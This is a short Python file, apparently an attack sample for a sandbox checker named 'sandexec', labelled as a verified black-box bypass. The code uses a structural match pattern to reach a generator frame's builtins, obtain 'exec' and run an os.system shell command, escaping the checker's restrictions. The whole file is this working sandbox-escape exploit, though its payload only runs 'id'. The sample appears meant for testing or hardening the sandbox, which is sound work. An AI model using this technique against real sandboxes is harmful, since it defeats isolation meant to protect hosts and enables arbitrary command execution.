# Source: black-box attack on sandexec's check, 2026-11-26; family: match class/mapping patterns as getattr/subscript by constant name
# Verified to run in sandexec-python:bookworm when unchecked.
def gen():
    yield 1
match gen():
    case object(gi_frame=object(f_builtins={"exec": ex})):
        ex("import os; os.system('id; echo FRAME-BUILTINS')")
